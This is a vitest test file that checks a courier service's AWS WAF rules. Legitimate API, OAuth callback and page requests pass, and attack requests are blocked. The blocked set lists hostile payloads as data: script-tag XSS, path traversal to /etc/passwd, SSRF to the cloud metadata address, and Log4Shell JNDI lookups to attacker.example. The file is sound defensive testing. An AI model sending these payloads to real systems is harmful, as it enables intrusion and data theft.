import { beforeAll, describe, expect, test } from 'vitest'
import openapi from '../../../functions/openapi.json' with { type: 'json' }
import { SentPhoto } from '../../../shared/http/body/photo.ts'
import { exampleOf } from '../../support/api/tenant.ts'
import { evaluate, type Acl } from '../../support/firewall/evaluate.ts'
import { managedRules } from '../../support/firewall/managed-rules.ts'
import { request, type EdgeRequest } from '../../support/firewall/request.ts'
import { appWith, propertiesOf, templateOf } from '../../support/suite/stacks.ts'
import { distribution, setUp } from '../edge.fixture.ts'

setUp()
let acl: Acl
beforeAll(async () => {
  ;[acl] = propertiesOf(templateOf(await appWith(), 'CourierFirewall'), 'AWS::WAFv2::WebACL') as [Acl]
})

const browser = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0' }
const blocked = (one: EdgeRequest) => evaluate(acl, one).blockedBy

test('every rule that counts is one that AWS documents', () => {
  const overridden = acl.Rules.flatMap(({ Statement }) =>
    'ManagedRuleGroupStatement' in Statement
      ? (Statement.ManagedRuleGroupStatement.RuleActionOverrides ?? []).map(({ Name }) => [
          Statement.ManagedRuleGroupStatement.Name,
          Name,
        ])
      : [],
  )
  expect(overridden.length).toBeGreaterThan(0)
  for (const [group, name] of overridden) expect(managedRules[name!]?.group, name).toBe(group)
})

interface Operation {
  parameters?: { in: string; name: string; example?: unknown }[]
  requestBody?: { content: Record<string, { schema?: { $ref?: string } }> }
}
/** A request of each operation of the OpenAPI document, with its examples. */
const examples = Object.entries(openapi.paths as unknown as Record<string, Record<string, Operation>>).flatMap(
  ([path, operations]) =>
    Object.entries(operations).map(([method, { parameters = [], requestBody }]) => {
      const given = (place: string) => parameters.filter((one) => one.in === place && one.example !== undefined)
      const query = new URLSearchParams(
        Object.fromEntries(given('query').map(({ name, example }) => [name, String(example)])),
      )
      const filled = path.replace(/\{(\w+)\}/g, (_, name: string) =>
        encodeURIComponent(String(given('path').find((one) => one.name === name)?.example)),
      )
      const schema = requestBody?.content['application/json']?.schema?.$ref?.split('/').at(-1) ?? ''
      const schemas = openapi.components.schemas as unknown as Record<string, { examples?: unknown[] }>
      return [`${method.toUpperCase()} ${filled}?${query.toString()}`, schemas[schema]?.examples?.[0]] as const
    }),
)

describe('a client without User-Agent may', () => {
  test.each(examples)('send %s', (target, json) => {
    expect(blocked(request(target, { json }))).toBeUndefined()
  })

  test('open a WebSocket', () => {
    const headers = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' }
    expect(blocked(request(`GET /ws?ticket=${'x'.repeat(900)}`, { headers }))).toBeUndefined()
  })

  test('send a photo of 4 MiB', () => {
    const photo = {
      ...exampleOf(SentPhoto),
      photo_base64: Buffer.alloc(4 * 1024 * 1024, 'rO0AB').toString('base64'),
    }
    const sent = request('POST /api/v1/packages/0192f3a4-5b6c-7d8e-9f01-23456789abcd/photo', { json: photo })
    expect(sent.body.length).toBeGreaterThan(5_000_000)
    expect(blocked(sent)).toBeUndefined()
    expect(evaluate(acl, sent).counted).toContain('SizeRestrictions_BODY')
  })

  test.each([
    '<b>fragile</b>, see ../../invoice.ini',
    'pays with ${amount}',
    'https://shop.example/orders?id=7&back=https://127.0.0.1/',
    'java.lang.Runtime is a book; constructor:constructor',
  ])('write the note %s', (description) => {
    expect(blocked(request('POST /api/v1/shipments', { json: { description } }))).toBeUndefined()
    const query = new URLSearchParams({ q: description }).toString()
    expect(blocked(request(`GET /api/v1/shipments?${query}`))).toBeUndefined()
  })

  test('choose any password', () => {
    const json = { email: 'anna@example.com', password: '<script>../../${jndi:ldap://x}' }
    expect(blocked(request('POST /api/v1/auth/login', { json }))).toBeUndefined()
    expect(blocked(request('POST /auth/email/reset-password', { json }))).toBeUndefined()
  })

  test('register a webhook with a query, on a machine for tests', () => {
    for (const url of ['https://hooks.example/courier?token=a.b&x=../y', 'http://localhost:4000/hook'])
      expect(blocked(request('POST /api/v1/webhooks', { json: { url } }))).toBeUndefined()
  })

  test('continue a list with the longest cursor', () => {
    expect(
      blocked(request(`GET /api/v1/shipments?limit=200&q=Anna&cursor=${'c'.repeat(2000)}`)),
    ).toBeUndefined()
  })
})

describe('a browser may', () => {
  const google = {
    state: 'kJ3v0Qm7Zr',
    code: '4/0AX4XfWjEXAMPLE-_',
    scope:
      'email profile https://www.googleapis.com/auth/userinfo.email https://www.googleapis.com/auth/userinfo.profile',
    authuser: '0',
    prompt: 'none',
  }
  const microsoft = { state: 'kJ3v0Qm7Zr', code: `M.C107_BAY.2.${'U'.repeat(2200)}`, session_state: 'a-b' }
  test.each([
    ['Google', google],
    ['Microsoft', microsoft],
    [
      'a provider that repeats the address',
      { ...google, iss: 'https://id.example', redirect_uri: 'http://127.0.0.1:3000/' },
    ],
  ])('return from %s', (_, answer) => {
    const query = new URLSearchParams(answer).toString()
    for (const provider of ['google', 'microsoft', 'custom/own'])
      expect(
        blocked(request(`GET /api/v1/auth/oauth/${provider}/callback?${query}`, { headers: browser })),
      ).toBeUndefined()
  })

  test('open every page and its files', () => {
    const patterns = distribution().CacheBehaviors.map(({ PathPattern }: any) => PathPattern as string)
    expect(patterns).toEqual(expect.arrayContaining(['/track*', '/console*', '/docs*']))
    for (const pattern of patterns)
      for (const rest of [
        '',
        '/',
        '/TRK-7HQ3M2K9XW4BC',
        '/TRK-7HQ3M2K9XW4BC.',
        '/app-AB12CD34.js',
        '/look-AB12CD34.css',
      ])
        expect(
          blocked(request(`GET ${pattern.replace(/\/?\*/, rest)}?lang=ka`, { headers: browser })),
        ).toBeUndefined()
  })
})

describe('the firewall blocks', () => {
  test.each<[string, Partial<EdgeRequest>]>([
    ['GET /console?next=%3Cscript%3Ealert(1)%3C/script%3E', {}],
    ['GET /docs?file=../../etc/passwd', {}],
    ['GET /track?from=http://10.0.0.1/shell', {}],
    ['GET /index?url=http://169.254.169.254/latest/meta-data', {}],
    ['GET /api/v1/../../etc/passwd', {}],
    ['GET /api/v1/shipments/%3Cscript%3E', {}],
    ['GET /api/v1/backup.ini', {}],
    ['GET /WEB-INF/web.xml', {}],
    ['PROPFIND /api/v1/shipments', {}],
    ['GET /docs?x=${jndi:ldap://attacker.example/a}', {}],
    ['POST /upload', { body: 'class.module=java.lang.Runtime' }],
    ['GET /api/v1/health', { headers: { 'x-forwarded': '${jndi:ldap://attacker.example/a}' } }],
    ['GET /api/v1/health', { headers: { host: 'localhost' } }],
    ['GET /api/v1/health', { headers: { 'user-agent': 'Nmap Scripting Engine' } }],
    ['GET /console', { headers: { ...browser, cookie: 'a=<script>alert(1)</script>' } }],
    ['GET /api/v1/health', { reputation: 'malicious' }],
    [`GET /${'a'.repeat(1100)}`, {}],
    ['POST /upload', { body: 'x'.repeat(9000) }],
  ])('%s %o', (target, given) => {
    expect(blocked(request(target, { ...given, headers: { ...browser, ...given.headers } }))).toBeDefined()
  })

  test('a page’s request without User-Agent', () => {
    expect(blocked(request('GET /console'))).toBe('OutsideTheApi')
  })
})

describe('the rate of an address', () => {
  /** Requests of one scanner in the five busiest minutes (docs/decisions/20). */
  const scanner = { scans: 100, packed: 100, bagsRead: 100, photos: 20, polls: 60 }
  const ofOne = Object.values(scanner).reduce((sum, count) => sum + count)

  test('is enough for 40 scanners that repeat every fourth request', () => {
    const recent = Math.ceil(40 * ofOne * 1.25)
    expect(recent).toBe(19_000)
    expect(blocked(request('POST /api/v1/scan-event', { recent }))).toBeUndefined()
  })

  test('is limited', () => {
    expect(blocked(request('POST /api/v1/scan-event', { recent: 20_001 }))).toBe('RatePerAddress')
  })
})
